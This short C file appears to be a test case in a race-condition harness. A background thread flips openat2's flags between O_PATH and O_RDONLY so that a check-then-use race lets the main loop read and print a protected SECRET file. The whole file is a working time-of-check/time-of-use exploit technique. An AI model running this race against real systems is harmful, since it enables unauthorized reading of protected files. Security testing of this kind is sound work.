/* openat2's flags lie in memory: O_PATH when they are checked, O_RDONLY when they are used. */
#include "../race.h"
static struct open_how how;
static void *flip(void *context)
{
	while (flipping(context)) {
		how.flags = O_PATH;
		pause_a_little(context, 20000);
		how.flags = O_RDONLY;
		pause_a_little(context, 20000);
	}
	return NULL;
}
int main(void)
{
	struct race *r = race_of(PUBLIC, SECRET);
	pthread_t thread;
	char bytes[256];
	pthread_create(&thread, NULL, flip, r);
	for (int i = 0; goes_on(r, i); i++) {
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, SECRET, &how, sizeof how);
		ssize_t size = fd < 0 ? 0 : read(fd, bytes, sizeof bytes);
		close(fd);
		if (size > 5)
			return r->over = 1, write(1, bytes, (size_t)size) < 0;
	}
	r->over = 1;
	return 1;
}
